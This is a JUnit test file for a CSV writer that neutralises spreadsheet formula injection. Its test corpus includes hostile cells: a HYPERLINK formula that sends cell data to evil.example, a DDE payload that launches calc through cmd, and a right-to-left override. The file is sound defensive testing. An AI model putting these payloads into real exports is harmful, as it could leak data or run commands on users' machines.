package rapport.outreach;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.commons.csv.DuplicateHeaderMode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The injection corpus: cells that start like formulas, that hold quotes, commas and line breaks,
 * right-to-left and CJK text. Written by {@link SafeCsv}, read back by a strict RFC 4180 reader,
 * every cell is safe and restores to the original value.
 */
class SafeCsvTest {
  @TempDir Path dir;

  static final List<String> CORPUS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
          "=1+2",
          "+49 30 1234567",
          "+SUM(A1:A9)",
          "-2+3",
          "-cmd|' /C calc'!A0",
          "@SUM(A1)",
          "\tleading tab",
          "\rleading carriage return",
          "\r\n=after CRLF",
          "she said \"call me\", twice",
          "two\nlines",
          "three\r\nlines\rwith CR",
          "trailing space ",
          " leading space",
          "שלום, מה שלומך?",
          "مرحبا \u202Eevil\u202C",
          "李小龙 的车",
          "東京都, 日本",
          "'already quoted",
          "'=looks neutralised",
          "comma,inside",
          "#hash first",
          "",
          "-12.50",
          "+3",
          "1e-3",
          "-.5",
          "Müller-Lüdenscheidt");

  /** The strictest reading commons-csv offers: RFC 4180, header required, no lenient ends. */
  static CSVFormat strict() {
    return CSVFormat.RFC4180
        .builder()
        .setHeader()
        .setSkipHeaderRecord(true)
        .setAllowMissingColumnNames(false)
        .setDuplicateHeaderMode(DuplicateHeaderMode.DISALLOW)
        .setIgnoreSurroundingSpaces(false)
        .setIgnoreEmptyLines(false)
        .setLenientEof(false)
        .setTrailingData(false)
        .get();
  }

  static List<CSVRecord> readStrict(Path file) throws IOException {
    byte[] bytes = Files.readAllBytes(file);
    assertFalse(
        bytes.length >= 3 && (bytes[0] & 0xff) == 0xEF && (bytes[1] & 0xff) == 0xBB,
        file + " starts with a BOM");
    try (Reader r = Files.newBufferedReader(file, StandardCharsets.UTF_8);
        CSVParser p = CSVParser.builder().setReader(r).setFormat(strict()).get()) {
      List<CSVRecord> records = p.getRecords();
      for (CSVRecord rec : records) {
        assertTrue(rec.isConsistent(), file + " record " + rec.getRecordNumber() + " is ragged");
      }
      return records;
    }
  }

  /** Every cell of a written file: none may start like a formula unless it is a number. */
  static void assertNoFormula(Path file) throws IOException {
    for (CSVRecord rec : readStrict(file)) {
      for (String cell : rec) {
        if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
          assertTrue(
              cell.matches("[+-]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][+-]?\\d+)?"),
              file + " has a formula cell: " + cell);
        }
      }
    }
  }

  @Test
  void corpusRoundTripsThroughAStrictReader() throws IOException {
    List<List<String>> rows = new ArrayList<>();
    for (int i = 0; i < CORPUS.size(); i++) {
      rows.add(List.of(String.valueOf(i), CORPUS.get(i), "x" + CORPUS.get(i)));
    }
    List<SafeCsv.Written> w =
        SafeCsv.write(dir, "out", "corpus", List.of("n", "value", "prefixed"), rows, 1000);
    assertEquals(1, w.size());
    Path file = dir.resolve(w.get(0).path());
    List<CSVRecord> back = readStrict(file);
    assertEquals(CORPUS.size(), back.size());
    for (int i = 0; i < CORPUS.size(); i++) {
      String original = CORPUS.get(i);
      String cell = back.get(i).get("value");
      assertEquals(SafeCsv.safe(original), cell, "cell " + i);
      assertEquals(original, SafeCsv.restore(cell), "restored cell " + i);
      assertEquals("x" + original, back.get(i).get("prefixed"), "cell " + i + " in mid-text");
    }
    assertNoFormula(file);
    String text = Files.readString(file, StandardCharsets.UTF_8);
    assertTrue(text.startsWith("n,value,prefixed\n"), "LF after the header");
    assertTrue(text.contains("李小龙 的车") && text.contains("שלום"), "non-Latin text kept as is");
  }

  @Test
  void numbersStayNumbersAndFormulasAreQuoted() {
    assertEquals("-12.50", SafeCsv.safe("-12.50"));
    assertEquals("+3", SafeCsv.safe("+3"));
    assertEquals("'-2+3", SafeCsv.safe("-2+3"));
    assertEquals("'@SUM(A1)", SafeCsv.safe("@SUM(A1)"));
    assertEquals("'\tx", SafeCsv.safe("\tx"));
    assertEquals("", SafeCsv.safe(null));
    assertEquals("0.10", SafeCsv.decimal(0.1, 2));
    assertEquals("2.68", SafeCsv.decimal(2.675, 2), "half up on the decimal value");
  }

  @Test
  void splitsPastTheRowLimitIntoNumberedParts() throws IOException {
    List<List<String>> rows = new ArrayList<>();
    for (int i = 1; i <= 5; i++) {
      rows.add(List.of(String.valueOf(i)));
    }
    List<SafeCsv.Written> w = SafeCsv.write(dir, "o", "list", List.of("rank"), rows, 2);
    assertEquals(
        List.of("o/list-part-0001.csv", "o/list-part-0002.csv", "o/list-part-0003.csv"),
        w.stream().map(SafeCsv.Written::path).toList());
    assertEquals(List.of(2L, 2L, 1L), w.stream().map(SafeCsv.Written::rows).toList());
    assertEquals("rank\n5\n", Files.readString(dir.resolve("o/list-part-0003.csv")));
    List<SafeCsv.Written> empty = SafeCsv.write(dir, "o", "none", List.of("rank"), List.of(), 2);
    assertEquals("rank\n", Files.readString(dir.resolve(empty.get(0).path())));
  }

  @Test
  void theSpreadsheetDialectHasABomAndCrlfAndTheSameCells() throws IOException {
    List<List<String>> rows =
        List.of(List.of("Jürgen Müßig", "line one\nline two"), List.of("=1+1", "Zoë"));
    List<SafeCsv.Written> people =
        SafeCsv.write(
            dir, "o", "people", List.of("name", "note"), rows, 100, SafeCsv.Dialect.SPREADSHEET);
    byte[] bytes = Files.readAllBytes(dir.resolve(people.get(0).path()));
    assertEquals(0xEF, bytes[0] & 0xFF);
    assertEquals(0xBB, bytes[1] & 0xFF);
    assertEquals(0xBF, bytes[2] & 0xFF);
    String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
    assertEquals(
        "name,note\r\nJürgen Müßig,\"line one\nline two\"\r\n'=1+1,Zoë\r\n",
        text,
        "records end in CRLF; a line break inside a cell stays as it was");
    assertEquals(people.get(0).sha256(), rapport.run.Manifest.sha256(bytes));
    List<SafeCsv.Written> standard =
        SafeCsv.write(dir, "o", "standard", List.of("name", "note"), rows, 100);
    String plain = Files.readString(dir.resolve(standard.get(0).path()), StandardCharsets.UTF_8);
    assertEquals(text.replace("\r\n", "\n"), plain, "the same cells, without BOM, in LF");
  }
}
